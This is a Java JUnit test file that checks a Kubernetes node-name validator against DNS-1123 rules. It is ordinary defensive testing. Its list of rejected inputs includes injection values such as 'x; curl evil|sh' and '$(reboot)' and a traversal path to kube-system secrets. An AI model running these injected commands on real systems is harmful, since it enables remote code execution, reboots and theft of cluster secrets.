package io.kubeletdoctor.cluster;

import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Node names are DNS-1123 subdomains of at most 253 characters, as the API server has them. */
class NodeNameTests {

	private static final String LABEL_CHARACTERS = "abcdefghijklmnopqrstuvwxyz0123456789-";

	@ParameterizedTest
	@ValueSource(strings = { "worker-1", "ip-10-0-0-5.eu-west-1.compute.internal", "10.0.0.5", "a", "0",
			"node.example.com" })
	void kubernetesNamesAreValid(String name) {
		assertThat(NodeName.isValid(name)).isTrue();
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "../namespaces/kube-system/secrets/x", "x; curl evil|sh", "$(reboot)", "Worker-1",
			"-worker", "worker-", "worker..1", ".worker", "worker.", "worker 1", "worker\n1", "fd00::1", "wörker",
			"worker_1", "worker/1", "worker%2F..", "\u001b[31mworker" })
	void anythingElseIsInvalid(String name) {
		assertThat(NodeName.isValid(name)).isFalse();
	}

	@Test
	void lengthIsBoundedBy253() {
		String longest = "a".repeat(120) + "." + "b".repeat(132);
		assertThat(longest).hasSize(253);
		assertThat(NodeName.isValid(longest)).isTrue();
		assertThat(NodeName.isValid(longest + "c")).isFalse();
		assertThat(NodeName.isValid(null)).isFalse();
	}

	static Stream<String> generatedNames() {
		Random random = new Random(253);
		return IntStream.range(0, 500).mapToObj((i) -> {
			StringBuilder name = new StringBuilder();
			int labels = 1 + random.nextInt(4);
			for (int l = 0; l < labels; l++) {
				if (l > 0) {
					name.append('.');
				}
				int length = 1 + random.nextInt(20);
				for (int c = 0; c < length; c++) {
					boolean edge = c == 0 || c == length - 1;
					name.append(LABEL_CHARACTERS.charAt(random.nextInt(LABEL_CHARACTERS.length() - (edge ? 1 : 0))));
				}
			}
			return name.toString();
		});
	}

	@ParameterizedTest
	@MethodSource("generatedNames")
	void generatedNamesAreValidAndAnyForeignCharacterMakesThemInvalid(String name) {
		assertThat(NodeName.isValid(name)).isTrue();
		Random random = new Random(name.hashCode());
		char foreign;
		do {
			foreign = (char) random.nextInt(0x3000);
		}
		while (LABEL_CHARACTERS.indexOf(foreign) >= 0 || foreign == '.');
		int at = random.nextInt(name.length() + 1);
		assertThat(NodeName.isValid(name.substring(0, at) + foreign + name.substring(at))).isFalse();
	}

}
